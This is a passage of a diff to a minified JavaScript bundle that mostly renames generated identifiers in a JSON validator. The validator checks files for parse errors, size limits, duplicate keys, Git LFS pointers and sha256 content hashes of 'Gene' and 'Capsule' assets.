+function iw(n){return n===null?"null":`a ${typeof n}`}function nd(n){return n===void 0?'an object without a "type"':typeof n!=
+"string"?'an object whose "type" is not a string':`an object of type ${JSON.stringify(n.slice(0,40))}`}var yN=at(547);const Le=sn(
+import.meta.url)("node:path");function Wt(n){return n==="file"||n==="executable"}function qs(n,e){return e===""?n:rd(n,e,
+()=>ow(n,e))}function Ti(n,e){return rd(n,`../${e}`,()=>aw(n,e))}const sd=new WeakMap;function rd(n,e,t){const s=sd.get(
+n)??new Map;sd.set(n,s);const r=s.get(e)??t();return s.set(e,r),r}function ow(n,e){const t=`${e}/`,s=c=>c===""?e:t+c,r=c=>({
 ...c,path:c.path===e?"":c.path.slice(t.length)}),{original:i,isPending:o}=n;return{label:n.label,...i&&{original:qs(i,e)},
 ...o&&{isPending:c=>o(s(c))},stat:c=>{const l=n.stat(s(c));return l&&r(l)},readlink:c=>n.readlink(s(c)),list:c=>n.list(s(
-c)).map(r),files:()=>[...n.files()].filter(({path:c})=>c.startsWith(t)).map(r),read:(c,l)=>n.read(s(c),l)}}function ow(n,e){
+c)).map(r),files:()=>[...n.files()].filter(({path:c})=>c.startsWith(t)).map(r),read:(c,l)=>n.read(s(c),l)}}function aw(n,e){
 const t=`${e}/`,s={path:"",kind:"directory",tracked:!0},r=l=>l===e?"":l.startsWith(t)?l.slice(t.length):"..",i=l=>({...l,
-path:Le.posix.join(e,l.path)}),{original:o,isPending:c}=n;return{label:n.label,...o&&{original:Si(o,e)},...c&&{isPending:l=>l.
+path:Le.posix.join(e,l.path)}),{original:o,isPending:c}=n;return{label:n.label,...o&&{original:Ti(o,e)},...c&&{isPending:l=>l.
 startsWith(t)&&c(r(l))},stat:l=>{const B=l===""?s:n.stat(r(l));return B&&l!==""?i(B):B},readlink:l=>n.readlink(r(l)),list:l=>(l===
-""?[s]:n.list(r(l))).map(i),files:()=>[...n.files()].map(i),read:(l,B)=>n.read(r(l),B)}}const aw=Fn(n=>Ai(n.files(),({path:e})=>Le.
-posix.basename(e)));function Ti(n,e){return aw(n).get(e)??[]}function Fn(n){const e=new WeakMap;return t=>{const s=t.original??
+""?[s]:n.list(r(l))).map(i),files:()=>[...n.files()].map(i),read:(l,B)=>n.read(r(l),B)}}const cw=Fn(n=>Si(n.files(),({path:e})=>Le.
+posix.basename(e)));function Ii(n,e){return cw(n).get(e)??[]}function Fn(n){const e=new WeakMap;return t=>{const s=t.original??
 t,{answer:r}=e.get(s)??{answer:n(s)};return e.set(s,{answer:r}),r}}function kr(n){const e=Fn(()=>new Map);return(t,s)=>{
-const r=e(t),i=r.get(s)??n(t,s);return r.set(s,i),i}}const cw="version https://git-lfs.github.com/spec/";function uw(n){
-if(n.startsWith(cw))return"this is a Git LFS pointer; commit the file itself (git lfs untrack)"}function mN(n,e,t){return new lw(
-n,e,t).read()}class lw{#e;#t;#s;#i;#r=id;#n=0;#a=!1;#u=!1;#o=!1;constructor(e,t,s){this.#e=t,this.#t=s,this.#s=gw(e),this.#i=
-lfsObstacle(e)}read(){const e=[];let t=!1;for(this.#c();this.#r.kind!=="end";){const s=this.#r,r=rd.has(s.kind);if(s.kind===
+const r=e(t),i=r.get(s)??n(t,s);return r.set(s,i),i}}const uw="version https://git-lfs.github.com/spec/";function lw(n){
+if(n.startsWith(uw))return"this is a Git LFS pointer; commit the file itself (git lfs untrack)"}function wN(n,e,t){return new dw(
+n,e,t).read()}class dw{#e;#t;#s;#i;#r=od;#n=0;#a=!1;#u=!1;#o=!1;constructor(e,t,s){this.#e=t,this.#t=s,this.#s=Cw(e),this.#i=
+lfsObstacle(e)}read(){const e=[];let t=!1;for(this.#c();this.#r.kind!=="end";){const s=this.#r,r=id.has(s.kind);if(s.kind===
 "{"||s.kind==="["||r&&!t&&!this.#o){t=!1,this.#a=!1,e.push(this.#B(0)),this.#u=!1;continue}t||(t=!0,this.#a=this.#o,this.#l(
-s.start===0&&this.#i||ha("a JSON value",s))),this.#c()}return e}#c(){do{this.#r=this.#s();const{kind:e,start:t,fault:s}=this.#r;
+s.start===0&&this.#i||ma("a JSON value",s))),this.#c()}return e}#c(){do{this.#r=this.#s();const{kind:e,start:t,fault:s}=this.#r;
 if(this.#n>this.#e.maxValues){const r=`more than ${this.#e.maxValues} JSON values; the rest is not read`;this.#t.add("fi\
-le-too-large",this.#r,r),this.#r={...id,start:t,end:t},this.#a=!0}else e==="comment"&&this.#l(s??od(this.#r))}while(this.#r.
+le-too-large",this.#r,r),this.#r={...od,start:t,end:t},this.#a=!0}else e==="comment"&&this.#l(s??ad(this.#r))}while(this.#r.
 kind==="comment")}#B(e){const t=this.#r,{kind:s,start:r,end:i}=t;if(this.#n+=1,t.fault&&this.#l(t.fault),s==="unknown"&&
-this.#l(ha("a JSON value",t)),s!=="{"&&s!=="[")return this.#c(),{value:dw(t),start:r,end:i};if(e<this.#e.maxDepth)return this.#p(
+this.#l(ma("a JSON value",t)),s!=="{"&&s!=="[")return this.#c(),{value:Bw(t),start:r,end:i};if(e<this.#e.maxDepth)return this.#p(
 e);const o=`brackets nested more than ${this.#e.maxDepth} deep`;this.#t.add("file-not-json",t,o);const c={value:null,start:r,
 end:this.#m()};return this.#c(),c}#p(e){const{kind:t,start:s,end:r}=this.#r,i=t==="{"?"}":"]",c={value:t==="{"?Object.create(
 null):[],start:s,end:r,children:[]};for(let l=",";l===",";l=this.#r.kind){if(this.#c(),this.#r.kind===i){c.children.length>
 0&&this.#l(`a comma before "${i}"`);break}if(this.#h(c,e),!this.#u&&this.#r.kind!==i&&this.#r.kind!==","&&this.#f(`"," o\
 r "${i}"`),this.#u)return{...c,end:this.#r.start,cut:!0}}return c.end=this.#r.end,this.#c(),c}#h({value:e,children:t},s){
-const r=Array.isArray(e),i=r?void 0:this.#d(e,t);if(this.#u)return;if(!fw.has(this.#r.kind)){this.#f("a JSON value");return}
+const r=Array.isArray(e),i=r?void 0:this.#d(e,t);if(this.#u)return;if(!hw.has(this.#r.kind)){this.#f("a JSON value");return}
 const o=this.#B(s+1);t.push(o),r&&e.push(o.value),i!==void 0&&(o.key=i,e[i.name]=o.value)}#d(e,t){const s=this.#r,{value:r,
 start:i,end:o}=s;if(s.kind!=="string")return this.#f("a key in double quotes");if(s.fault&&this.#l(s.fault),r==="__proto\
 __")this.#t.add("ambiguous-key",s,'"__proto__" as a key');else if(Object.hasOwn(e,r)&&!this.#t.full){const c=t.find(B=>B.
 key?.name===r)?.key,l=this.#t.place((c??s).start);this.#t.add("ambiguous-key",s,`${JSON.stringify(r)}, first at ${l}`)}return this.#c(),
 this.#r.kind!==":"?this.#f('":" after a key'):(this.#c(),{name:r,start:i,end:o})}#m(){let e=this.#r;for(let t=1;t>0&&e.kind!==
 "end";)e=this.#s(),(e.kind==="{"||e.kind==="[")&&(t+=1),(e.kind==="}"||e.kind==="]")&&(t-=1);return e.end}#f(e){this.#l(
-ha(e,this.#r)),this.#u=!0,this.#o=!0}#l(e){this.#a||this.#t.add("file-not-json",this.#r,e),this.#a=!0}}function ha(n,e){
-return`expected ${n}, found ${od(e)}`}function dw({kind:n,value:e,fault:t}){return n==="string"?e:n==="number"?t?null:Number(
-e):n==="true"?!0:n==="false"?!1:null}const Bw={1:"{",2:"}",3:"[",4:"]",5:",",6:":",7:"null",8:"true",9:"false",10:"strin\
-g",11:"number",12:"comment",13:"comment",16:"unknown",17:"end"},rd=new Set(["string","number","true","false","null"]),fw=new Set(
-[...rd,"{","[","unknown"]),id={kind:"end",start:0,end:0,value:""},hw=14,pw=15,mw={1:"an unterminated comment",2:"an unte\
+ma(e,this.#r)),this.#u=!0,this.#o=!0}#l(e){this.#a||this.#t.add("file-not-json",this.#r,e),this.#a=!0}}function ma(n,e){
+return`expected ${n}, found ${ad(e)}`}function Bw({kind:n,value:e,fault:t}){return n==="string"?e:n==="number"?t?null:Number(
+e):n==="true"?!0:n==="false"?!1:null}const fw={1:"{",2:"}",3:"[",4:"]",5:",",6:":",7:"null",8:"true",9:"false",10:"strin\
+g",11:"number",12:"comment",13:"comment",16:"unknown",17:"end"},id=new Set(["string","number","true","false","null"]),hw=new Set(
+[...id,"{","[","unknown"]),od={kind:"end",start:0,end:0,value:""},pw=14,mw=15,gw={1:"an unterminated comment",2:"an unte\
 rminated string",3:"an incomplete number",4:"a \\u escape without four hexadecimal digits",5:"an unknown escape in a str\
-ing",6:"an unescaped control character in a string"};function gw(n){const e=createScanner(n,!1);return()=>{let t=e.scan();
-for(;t===hw||t===pw;)t=e.scan();const s=Bw[t]??"unknown",r=e.getTokenValue(),i=mw[e.getTokenError()]??Cw(s,r);return{kind:s,
-start:e.getTokenOffset(),end:Math.min(e.getPosition(),n.length),value:r,...i!==void 0&&{fault:i}}}}function Cw(n,e){if(n===
+ing",6:"an unescaped control character in a string"};function Cw(n){const e=createScanner(n,!1);return()=>{let t=e.scan();
+for(;t===pw||t===mw;)t=e.scan();const s=fw[t]??"unknown",r=e.getTokenValue(),i=gw[e.getTokenError()]??yw(s,r);return{kind:s,
+start:e.getTokenOffset(),end:Math.min(e.getPosition(),n.length),value:r,...i!==void 0&&{fault:i}}}}function yw(n,e){if(n===
 "comment")return"a comment";if(n==="number"&&!Number.isFinite(Number(e)))return"a number out of range";if(n==="string"&&
-/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const yw=/^(?:<{7}|={7}|>{7})$/;function od({kind:n,value:e}){
-return n==="end"?"the end of the file":n==="string"||n==="number"||n==="comment"?`a ${n}`:n!=="unknown"?`"${n}"`:yw.test(
-e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const gN=sn(import.meta.url)("node:\
-buffer");class CN{path;text;#e;#t;constructor(e,t,s=1){this.path=e,this.text=t,this.#e=s}location(e,t=e){const s=this.#s(
+/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const ww=/^(?:<{7}|={7}|>{7})$/;function ad({kind:n,value:e}){
+return n==="end"?"the end of the file":n==="string"||n==="number"||n==="comment"?`a ${n}`:n!=="unknown"?`"${n}"`:ww.test(
+e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const bN=sn(import.meta.url)("node:\
+buffer");class _N{path;text;#e;#t;constructor(e,t,s=1){this.path=e,this.text=t,this.#e=s}location(e,t=e){const s=this.#s(
 e),r=this.#s(Math.max(e,t));return{path:this.path,...s,end_line:r.line,end_column:r.column}}#s(e){const t=this.#t??this.#i();
 let s=0;for(let r=t.length;r-s>1;){const i=s+r>>>1;(t[i]??0)<=e?s=i:r=i}return{line:s+this.#e,column:e-(t[s]??0)+1}}#i(){
 const e=[0];for(let t=this.text.indexOf(`
 `);t!==-1;t=this.text.indexOf(`
-`,t+1))e.push(t+1);return this.#t=e,e}}const ad=100;class yN{#e=[];#t;#s=new Map;#i;constructor(e){this.#t=e}get found(){
-if(this.#i===void 0)return this.#e;const e=[...this.#s].map(([s,r])=>`${r} \xD7 \`${s}\``).join(", "),t=`more than ${ad}\
+`,t+1))e.push(t+1);return this.#t=e,e}}const cd=100;class EN{#e=[];#t;#s=new Map;#i;constructor(e){this.#t=e}get found(){
+if(this.#i===void 0)return this.#e;const e=[...this.#s].map(([s,r])=>`${r} \xD7 \`${s}\``).join(", "),t=`more than ${cd}\
  problems; not listed are ${e}`;return[...this.#e,{rule:"file-too-large",location:this.#i,detail:t}]}get full(){return this.#i!==
 void 0}place(e){const{line:t,column:s}=this.#t.location(e);return`line ${t}, column ${s}`}add(e,{start:t,end:s},r,{id:i,
-severity:o}={}){if(this.#e.length===ad){this.#i??=this.#t.location(t,s),this.#s.set(e,(this.#s.get(e)??0)+1);return}const c=this.#t.
-location(t,s);this.#e.push({rule:e,location:c,detail:r,...i!==void 0&&{id:i},...o&&{severity:o}})}}function wN(n){const e=new TextDecoder(
-"utf-8").decode(n);return isUtf8(n)?{text:e,complete:!0}:{text:e.slice(0,e.indexOf("\uFFFD")),complete:!1}}function bN(n){
-return{maxBytes:n,maxDepth:64,maxValues:1e6,maxAssets:5e4}}function _N(n,e,t,s=1){if(e.length>t.maxBytes)return _w(n,e.length,
+severity:o}={}){if(this.#e.length===cd){this.#i??=this.#t.location(t,s),this.#s.set(e,(this.#s.get(e)??0)+1);return}const c=this.#t.
+location(t,s);this.#e.push({rule:e,location:c,detail:r,...i!==void 0&&{id:i},...o&&{severity:o}})}}function vN(n){const e=new TextDecoder(
+"utf-8").decode(n);return isUtf8(n)?{text:e,complete:!0}:{text:e.slice(0,e.indexOf("\uFFFD")),complete:!1}}function kN(n){
+return{maxBytes:n,maxDepth:64,maxValues:1e6,maxAssets:5e4}}function DN(n,e,t,s=1){if(e.length>t.maxBytes)return Ew(n,e.length,
 t);const{text:r,complete:i}=decodeUtf8(e),o=new Source(n,r,s),c=new Problems(o);if(!i){const _={start:r.length,end:r.length};
 return c.add("file-not-utf8",_,"a byte that no UTF-8 text can have here"),{path:n,assets:[],problems:c.found}}const l=readJson(
-r,t,c);l.length===0&&c.found.length===0&&!Ii(n)&&c.add("file-not-json",{start:0,end:0},"expected a JSON value, found an \
-empty file");const[B,d]=l;d&&Ew(n)&&c.found.length===0?c.add("file-not-json",d,vw):B&&Array.isArray(B.value)&&kw.test(n)&&
-c.add("without-effect",B,Dw,{severity:"warning"});const{candidates:h,messages:g}=cd(o,l,t,c),C=ud(h,o,c),y=g.map(_=>({value:_.
-value,location:dd(o,_,[])}));return{path:n,assets:C,problems:c.found,...Ii(n)&&e[0]!==ww&&bw(l,o)&&{lines:!0},...y.length>
-0&&{messages:y}}}function EN(n,e,t){const s=new Source(n,e),r=new Problems(s),{candidates:i}=cd(s,readJson(e,t,r),t,r),o=ud(
-i,s,r);return i.flatMap(({node:c},l)=>{const B=o[l];return B?{asset:B,node:c}:[]})}function cd({path:n},e,{maxAssets:t},s){
+r,t,c);l.length===0&&c.found.length===0&&!$i(n)&&c.add("file-not-json",{start:0,end:0},"expected a JSON value, found an \
+empty file");const[B,d]=l;d&&vw(n)&&c.found.length===0?c.add("file-not-json",d,kw):B&&Array.isArray(B.value)&&Dw.test(n)&&
+c.add("without-effect",B,xw,{severity:"warning"});const{candidates:h,messages:g}=ud(o,l,t,c),C=ld(h,o,c),y=g.map(_=>({value:_.
+value,location:Bd(o,_,[])}));return{path:n,assets:C,problems:c.found,...$i(n)&&e[0]!==bw&&_w(l,o)&&{lines:!0},...y.length>
+0&&{messages:y}}}function xN(n,e,t){const s=new Source(n,e),r=new Problems(s),{candidates:i}=ud(s,readJson(e,t,r),t,r),o=ld(
+i,s,r);return i.flatMap(({node:c},l)=>{const B=o[l];return B?{asset:B,node:c}:[]})}function ud({path:n},e,{maxAssets:t},s){
 const{candidates:r,messages:i}=findCandidates(e,s),o=r[t];o&&s.add("file-too-large",o.node,`more than ${t} assets; the r\
-est is not read`);const c=Ii(n)||e.length>1;return{candidates:r.slice(0,t).map(B=>c?B:{...B,pointer:B.pointer.slice(1)}),
-messages:i}}const ww=239;function bw(n,e){let t=0;return n.every(({start:s,end:r})=>{const{line:i,end_line:o}=e.location(
-s,r),c=i===o&&i>t;return t=i,c})}function _w(n,e,{maxBytes:t}){const s=`${e} bytes, of at most ${t}`;return{path:n,assets:[],
-problems:[{rule:"file-too-large",location:{path:n,line:1,column:1},detail:s}]}}function vN(n,e){const t={path:n,line:1,column:1},
-s=whyNotJudged(`the file \`${n}\``,e);return{path:n,assets:[],problems:[{rule:"not-judged",location:t,detail:s}]}}function Ii(n){
-return n.toLowerCase().endsWith(".jsonl")}function Ew(n){return!Ii(n)&&/\.\w+$/.test(n)}const vw="a second JSON value, w\
-hich `JSON.parse` refuses; only a `.jsonl` file has several",kw=/(?:^|\/)assets\/gep\/(?:genes|capsules)\.json$/,Dw='the\
+est is not read`);const c=$i(n)||e.length>1;return{candidates:r.slice(0,t).map(B=>c?B:{...B,pointer:B.pointer.slice(1)}),
+messages:i}}const bw=239;function _w(n,e){let t=0;return n.every(({start:s,end:r})=>{const{line:i,end_line:o}=e.location(
+s,r),c=i===o&&i>t;return t=i,c})}function Ew(n,e,{maxBytes:t}){const s=`${e} bytes, of at most ${t}`;return{path:n,assets:[],
+problems:[{rule:"file-too-large",location:{path:n,line:1,column:1},detail:s}]}}function ON(n,e){const t={path:n,line:1,column:1},
+s=whyNotJudged(`the file \`${n}\``,e);return{path:n,assets:[],problems:[{rule:"not-judged",location:t,detail:s}]}}function $i(n){
+return n.toLowerCase().endsWith(".jsonl")}function vw(n){return!$i(n)&&/\.\w+$/.test(n)}const kw="a second JSON value, w\
+hich `JSON.parse` refuses; only a `.jsonl` file has several",Dw=/(?:^|\/)assets\/gep\/(?:genes|capsules)\.json$/,xw='the\
  reference engine reads this file as an object with a list, `{"genes": [\u2026]}` or `{"capsules": [\u2026]}`, so that no engine r\
-eads a list here';function ud(n,e,t){const s=new Map,r=new Map,i=n.map((o,c)=>{const{node:l,pointer:B,value:d,type:h,envelope:g,
-wrappers:C}=o,y=ld(d),_=y??`#${c+1}`,k=s.get(`${h} ${_}`),v=y!==void 0&&k!==void 0&&xw(o,k);if(y===void 0){const O=Object.
+eads a list here';function ld(n,e,t){const s=new Map,r=new Map,i=n.map((o,c)=>{const{node:l,pointer:B,value:d,type:h,envelope:g,
+wrappers:C}=o,y=dd(d),_=y??`#${c+1}`,k=s.get(`${h} ${_}`),v=y!==void 0&&k!==void 0&&Ow(o,k);if(y===void 0){const O=Object.
 hasOwn(d,"id")?'with an "id" that is not text':'without an "id"',D=`${withArticle(h)} ${O}; it is called ${_} here`;l.cut||
 t.add("not-an-asset",l,D,{id:_})}else if(v)r.set(k,(r.get(k)??1)+1);else if(k){const O=`${h} ${JSON.stringify(_)}, first\
  at ${t.place(k.node.start)}`;t.add("duplicate-id",l,O,{id:_})}else s.set(`${h} ${_}`,o);return{type:h,id:_,path:e.path,
-value:d,pointer:B,...l.cut&&{cut:!0},...g&&{envelope:g},...C&&{wrappers:C},...v&&{copy:!0},locate:(O=[],D)=>dd(e,l,O,D)}});
-for(const[{node:o,type:c,value:l},B]of r){const d=ld(l),h=`${c} ${JSON.stringify(d)}, ${B} times`;t.add("without-effect",
-o,h,d===void 0?{}:{id:d})}return i}function xw(n,e){const t=s=>!s.node.cut&&!s.envelope;return t(n)&&t(e)&&statedContent(
-n)===statedContent(e)}function ld({id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}function dd(n,e,t,s){let r=e;
-for(const i of t){const o=Ow(r,i);if(!o)return n.location(r.start,r.end);r=o}return!s||typeof r.value!="string"?n.location(
-r.start,r.end):n.location(Bd(n.text,r,s.start),Bd(n.text,r,s.end))}function Ow({value:n,children:e},t){return Array.isArray(
-n)?typeof t=="number"?e?.[t]:void 0:e?.findLast(({key:s})=>s?.name===t)}function Bd(n,{start:e,end:t},s){const r=t-1;let i=e+
-1;for(let o=0;o<s&&i<r;o+=1)n[i]!=="\\"?i+=1:i+=n[i+1]==="u"?6:2;return Math.min(i,r)}const kN={"1124af25050b3a2777b00fe\
+value:d,pointer:B,...l.cut&&{cut:!0},...g&&{envelope:g},...C&&{wrappers:C},...v&&{copy:!0},locate:(O=[],D)=>Bd(e,l,O,D)}});
+for(const[{node:o,type:c,value:l},B]of r){const d=dd(l),h=`${c} ${JSON.stringify(d)}, ${B} times`;t.add("without-effect",
+o,h,d===void 0?{}:{id:d})}return i}function Ow(n,e){const t=s=>!s.node.cut&&!s.envelope;return t(n)&&t(e)&&statedContent(
+n)===statedContent(e)}function dd({id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}function Bd(n,e,t,s){let r=e;
+for(const i of t){const o=Aw(r,i);if(!o)return n.location(r.start,r.end);r=o}return!s||typeof r.value!="string"?n.location(
+r.start,r.end):n.location(fd(n.text,r,s.start),fd(n.text,r,s.end))}function Aw({value:n,children:e},t){return Array.isArray(
+n)?typeof t=="number"?e?.[t]:void 0:e?.findLast(({key:s})=>s?.name===t)}function fd(n,{start:e,end:t},s){const r=t-1;let i=e+
+1;for(let o=0;o<s&&i<r;o+=1)n[i]!=="\\"?i+=1:i+=n[i+1]==="u"?6:2;return Math.min(i,r)}const AN={"1124af25050b3a2777b00fe\
 527f25c37":"1.7.0","0ae9f4172d143cac2f316f08d0855038":"1.14.0","6298d2870e2f48a9ca447e3c80d09df5":"1.7.0",aec44b6e270d0df1467ca8b6421dfa56:"\
 1.14.0",a439632ca376509abf5cd66745ebb667:"1.94.0",f2e2fdbe0cfdd670c6ae2ab38a9cf719:"1.94.0","392fbba719f19ac8018e35eef2a\
 9ef1c":"1.94.0","80fc8fcd87486a59d51a3053f3d9528f":"1.94.0",e3fdd8cdf5e2baa7fb529e8b229a5fb4:"1.94.0","7962c90afd3575bfc\
@@ -3178,130 +3178,130 @@ cacbdef9b847f21d093051695e34e4ac:"2.0.0-beta.2","0acc6a33d6bf548200f6102f20780b7
 3b631":"2.0.35","2266a77bc41320e2c3056c535b6ce1b8":"2.0.0-beta.2","4a80d7e9f507e44212467305f08f9aa1":"2.0.20","6e0a940cf\
 1f81c0bb40cd5386cd2b6c1":"2.0.35",a169b3ad00d3db26543c022e44025f64:"2.0.0-beta.2",c6669fa1a6fe663c6bb34036baa416c4:"2.0.\
 20",ed1bed5fb133d67559d85e703845e99e:"2.0.35",ec199ceb43ac39756c4fb0987a81ac06:"1.66.0","5fec6e038ba05b4992ed65b4235dd52\
-c":"1.89.20"};function DN({value:n,envelope:e}){if(e===void 0)return SEED_HASHES[hash("sha256",canonicalize(n)).slice(0,
-32)]}const Aw=/\.seed\.json$/;function xN({head:n,base:e,untouched:t},s){const r=(l,B)=>l.filter(({path:d})=>Aw.test(d)===
+c":"1.89.20"};function SN({value:n,envelope:e}){if(e===void 0)return SEED_HASHES[hash("sha256",canonicalize(n)).slice(0,
+32)]}const Sw=/\.seed\.json$/;function TN({head:n,base:e,untouched:t},s){const r=(l,B)=>l.filter(({path:d})=>Sw.test(d)===
 B).flatMap(({assets:d})=>d).filter(({type:d,value:h})=>d==="Gene"&&declaredId(h)!==void 0),i=new Set(r(e,!0).map(({id:l})=>l));
 if(i.size===0)return[];const o=new Set(r([...e,...t],!1).map(({id:l})=>l)),c=new Set(s.map(({asset:l})=>l));return r(n,!1).
-filter(l=>i.has(l.id)&&!o.has(l.id)&&!c.has(l))}function ON({value:n}){const e=typeof n.asset_id=="string"?Tw(n.asset_id):
+filter(l=>i.has(l.id)&&!o.has(l.id)&&!c.has(l))}function IN({value:n}){const e=typeof n.asset_id=="string"?Iw(n.asset_id):
 void 0,t=i=>computeAssetId(i)===`sha256:${e}`;return t(n)?"unprefixed":n.type==="Gene"&&n.epigenetic_marks!==void 0&&t({
-...hd(n),epigenetic_marks:[]})?"created":void 0}const fd={env_fingerprint:["region"],Capsule:["diff","strategy"]};function Sw(n){
-const t=fd.Capsule.filter(r=>n.type==="Capsule"&&!(r in n)).reduce((r,i)=>r.flatMap(o=>[o,{...o,[i]:null}]),[{}]);return[
-n,pa(n)].flatMap(r=>t.map(i=>({...r,...i}))).find(r=>vi(r)===n.asset_id)}function pa(n){if(Array.isArray(n))return n.map(
-pa);if(!mn(n))return n;const e=Object.entries(n).map(([t,s])=>{const r=pa(s),[i]=fd.env_fingerprint,o=t==="env_fingerpri\
-nt"&&mn(r)&&!(i in r);return[t,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function AN({value:n},e){if(n.type!==
-"Gene"||e===void 0)return!1;const[t,s]=[n,e.value].map(r=>{const{schema_version:i,asset_id:o,...c}=hd(r);return canonicalize(
-c)});return t===s}function hd(n){const{epigenetic_marks:e,learning_history:t,anti_patterns:s,...r}=n;return r}function Tw(n){
-const e=n.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const Iw=new Set(["Ge\
+...pd(n),epigenetic_marks:[]})?"created":void 0}const hd={env_fingerprint:["region"],Capsule:["diff","strategy"]};function Tw(n){
+const t=hd.Capsule.filter(r=>n.type==="Capsule"&&!(r in n)).reduce((r,i)=>r.flatMap(o=>[o,{...o,[i]:null}]),[{}]);return[
+n,ga(n)].flatMap(r=>t.map(i=>({...r,...i}))).find(r=>ki(r)===n.asset_id)}function ga(n){if(Array.isArray(n))return n.map(
+ga);if(!mn(n))return n;const e=Object.entries(n).map(([t,s])=>{const r=ga(s),[i]=hd.env_fingerprint,o=t==="env_fingerpri\
+nt"&&mn(r)&&!(i in r);return[t,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function $N({value:n},e){if(n.type!==
+"Gene"||e===void 0)return!1;const[t,s]=[n,e.value].map(r=>{const{schema_version:i,asset_id:o,...c}=pd(r);return canonicalize(
+c)});return t===s}function pd(n){const{epigenetic_marks:e,learning_history:t,anti_patterns:s,...r}=n;return r}function Iw(n){
+const e=n.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const $w=new Set(["Ge\
 ne","Capsule","EvolutionEvent"]);function ys(n){const{type:e,value:t}=n,s=t.asset_id;if(s===ws(n.value))return"content";
-if(e==="Capsule"&&s===ws(Nw(t)))return"hub";if(typeof s=="string")return s===ws(ed(t))?"local":Sw(t)?"engine":void 0}function SN(n,e){
-const{type:t,value:s}=n;if(!Iw.has(t))return pd(n,e);const r=md(n,e),i=placeOf(n),o=s.asset_id===void 0?ws(n.value):void 0;
-return[...s.schema_version===void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?pd(n,e):[finding("content-h\
-ash-missing",{...r,expected:o},i)]]}function TN({rule:n}){return n==="schema-version-missing"||n==="content-hash-missing"}
-function pd(n,e,t=!1,s){const{value:r}=n;if(r.asset_id===void 0||ys(n)!==void 0)return[];const i=ws(n.value),o=otherHashForm(
+if(e==="Capsule"&&s===ws(Fw(t)))return"hub";if(typeof s=="string")return s===ws(td(t))?"local":Tw(t)?"engine":void 0}function RN(n,e){
+const{type:t,value:s}=n;if(!$w.has(t))return md(n,e);const r=gd(n,e),i=placeOf(n),o=s.asset_id===void 0?ws(n.value):void 0;
+return[...s.schema_version===void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?md(n,e):[finding("content-h\
+ash-missing",{...r,expected:o},i)]]}function NN({rule:n}){return n==="schema-version-missing"||n==="content-hash-missing"}
+function md(n,e,t=!1,s){const{value:r}=n;if(r.asset_id===void 0||ys(n)!==void 0)return[];const i=ws(n.value),o=otherHashForm(
 n),c=seedRelease(n),B=o==="created"||c!==void 0?"notice":hasOnlyLearned(n,s)?"warning":"error",d=e==="author"?"error":B,
-h={...placeOf(n,["asset_id"]),severity:d},g={...md(n,e),expected:i,...o&&{form:o},...c&&{seed:c}},C=t&&d!=="notice"&&e===
-"fix"?$w(n,i):void 0;return[{...finding("content-hash-mismatch",g,h),...C&&{edit:C}}]}function md({type:n,id:e},t){return{
-type:n,id:e,fixable:t==="fix",...t==="author"&&{foreign:!0}}}function IN(n){const{asset_id:e}=n.value;return typeof e=="\
-string"&&ys(n)!==void 0?e:ws(n.value)}function $w({type:n,path:e,pointer:t,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!=
-"string"||Object.values(o).some(gd))&&ys({type:n,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...t,
-"asset_id"]),old:i,new:[r],fix:!0}}function gd(n){return typeof n!="object"||n===null?!1:Object.hasOwn(n,"asset_id")||Object.
-values(n).some(gd)}function ws(n){return vi(n)??""}const Rw=null;function Nw(n){const{outcome:e}=n;if(!mn(e))return n;const{
-notes:t,details:s,...r}=e;return{...n,outcome:r}}function $N(n){const{outcome:e}=n.value,t=ys(n);return t==="local"?annotationsOf(
-n.value):t!=="hub"||!isJsonObject(e)?[]:Rw.filter(s=>Object.hasOwn(e,s)).map(s=>`outcome.${s}`)}function Fw(n,e){const t=Hw(
-n,e),s=Ai(n,({value:{capsule_id:r}})=>r);return r=>Pw(r,s.get(r.id)??[],t,e)}function Pw({id:n,value:{gene:e}},t,s,r){const i=[],
-o=[],c={files:0,lines:0};let l;const{successes:B,failure:d}=Cd(n,t);for(const h of B){const{value:g}=h,C=s.get(h)??Uw(g,
-r)??(Jw(g,e,r)?void 0:Gw)??(Ww(g)?"it records no change":void 0);C===void 0?(o.push(h),Zw(c,g)||(l??=ma(g))):i.push({event:ma(
-g),why:C})}return{count:yd(o),uncounted:i,ended:d!==void 0,...d&&B.length===0&&{failed:ma(d.value)},radius:c,...l!==void 0&&
-{unmeasured:l}}}function Cd(n,e){const t=e.filter(({value:r})=>r.type==="EvolutionEvent"&&r.capsule_id===n).reverse(),s=t.
-findIndex(({value:r})=>!Lw(r));return s<0?{successes:t}:{successes:t.slice(0,s),failure:t[s]}}function Lw({outcome:n}){return mn(
-n)&&n.status==="success"}function yd(n){const e=n.map(({value:t})=>t.id).filter(t=>typeof t=="string");return n.length-e.
-length+new Set(e).size}function jw(n,e){const{successes:t,failure:s}=Cd(n,e);return{count:yd(t),ended:s!==void 0}}function Mw({
+h={...placeOf(n,["asset_id"]),severity:d},g={...gd(n,e),expected:i,...o&&{form:o},...c&&{seed:c}},C=t&&d!=="notice"&&e===
+"fix"?Rw(n,i):void 0;return[{...finding("content-hash-mismatch",g,h),...C&&{edit:C}}]}function gd({type:n,id:e},t){return{
+type:n,id:e,fixable:t==="fix",...t==="author"&&{foreign:!0}}}function FN(n){const{asset_id:e}=n.value;return typeof e=="\
+string"&&ys(n)!==void 0?e:ws(n.value)}function Rw({type:n,path:e,pointer:t,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!=
+"string"||Object.values(o).some(Cd))&&ys({type:n,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...t,
